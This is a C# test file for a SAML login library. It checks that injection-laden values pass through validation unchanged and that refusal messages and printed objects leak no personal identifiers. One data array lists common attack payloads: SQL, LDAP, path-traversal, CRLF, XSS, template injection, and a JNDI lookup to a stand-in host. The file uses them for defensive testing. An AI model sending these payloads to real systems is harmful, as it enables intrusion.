using System.Text;
using Weblogin.Saml.Issuing;
using Weblogin.Saml.Responses;
using Weblogin.Saml.Tests.Kit;

namespace Weblogin.Saml.Tests.Responses;

/// <summary>Values that carry injections (CVE-2025-9943): they arrive as they are, and nowhere else.</summary>
public sealed class HostileValueTests
{
    public static TheoryData<string> Injections =>
    [
        "'; DROP TABLE logins; --", "*)(uid=*))(|(uid=*", "../../../etc/passwd", "x\r\nSet-Cookie: a=b", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.test/a}",
        "%0d%0aLocation:%20https://evil.test", "\u202Eevil", new string('x', 20_000),
    ];

    [Theory]
    [MemberData(nameof(Injections))]
    public void values_arrive_unchanged(string value)
    {
        var content = Login.Content with
        {
            NameId = new NameId(value, NameIdFormat.Persistent),
            SessionIndex = value,
            Attributes = [Login.Attribute(value, value, value)],
            AuthnContextClassRef = "urn:x",
        };
        var assertion = Login.Accepts(Login.Response(SignedParts.Both, content));
        Assert.Equal(value, assertion.NameId!.Value);
        Assert.Equal(value, assertion.SessionIndex);
        Assert.Equal([value, value], assertion.ValuesOf(value));
    }

    [Theory]
    [MemberData(nameof(Injections))]
    public void replay_key_is_harmless_whatever_the_id(string id)
    {
        var unsigned = ValueTruncationTests.WithoutSignature(Login.Response());
        var forgery = new Forgery(unsigned);
        forgery.Assertion.SetAttribute("ID", id);
        var xml = PlatformSigner.Sign(forgery.Xml, forgery.Response.GetAttribute("ID"), Keys.IdentityProvider);
        if (id.Length > 256)
        {
            Login.Refuses(RefusalReason.Malformed, xml);
            return;
        }

        var mark = Login.Accepts(xml).Replay;
        Assert.Matches("^[A-Za-z0-9_-]{43}$", mark.Key);
    }

    [Theory]
    [MemberData(nameof(Injections))]
    public void details_of_refusals_are_short_printable_text(string value)
    {
        string[] responses =
        [
            Text(Login.Issuer(entityId: value).Issue(Login.Content, Login.Address, SignedParts.Both)),
            Login.Response(SignedParts.Both, Login.Content with { Audience = value }),
            Text(Login.Issuer().Issue(Login.Content, new ResponseAddress(value, Login.RequestId), SignedParts.Both)),
            Text(Login.Issuer().Issue(Login.Content, new ResponseAddress(Login.ConsumerUrl, value), SignedParts.Both)),
            Text(Login.Issuer().Issue(Login.Content, Login.Address, SignedParts.Assertion)).Replace("cm:bearer", "cm:evil", StringComparison.Ordinal),
        ];
        foreach (var response in responses)
        {
            var refused = Assert.IsType<ResponseOutcome.Refused>(Login.Validate(response));
            Assert.InRange(refused.Detail.Length, 1, 300);
            Assert.All(refused.Detail, static c => Assert.InRange(c, ' ', '~'));
        }
    }

    [Fact]
    public void nothing_prints_personal_values()
    {
        var content = Login.Content with { NameId = new NameId(Login.NationalId, NameIdFormat.Persistent, SpNameQualifier: "kari") };
        var outcome = Login.Validate(Login.Response(SignedParts.Assertion, content));
        var assertion = Assert.IsType<ResponseOutcome.Accepted>(outcome).Assertion;
        string[] printed =
        [
            outcome.ToString(), assertion.ToString(), assertion.Value.ToString(), assertion.Value.NameId!.ToString(), assertion.Value.Attributes.ToString(),
            assertion.Value.Attributes[0].ToString(), assertion.Value.Attributes[0].Values.ToString(), content.ToString(), content.Attributes.ToString(),
        ];
        foreach (var text in printed)
        {
            Assert.DoesNotContain(Login.NationalId, text, StringComparison.Ordinal);
            Assert.DoesNotContain("Kari", text, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public void no_refusal_of_the_suite_of_breaks_names_the_person()
    {
        var genuine = Login.Response(SignedParts.Assertion, Login.Content with { NameId = new NameId(Login.NationalId) });
        for (var at = 0; at < genuine.Length; at += 7)
        {
            var outcome = Login.Validate(genuine.Remove(at, 1));
            Assert.DoesNotContain(Login.NationalId, outcome.ToString(), StringComparison.Ordinal);
        }
    }

    private static string Text(byte[] octets) => Encoding.UTF8.GetString(octets);
}
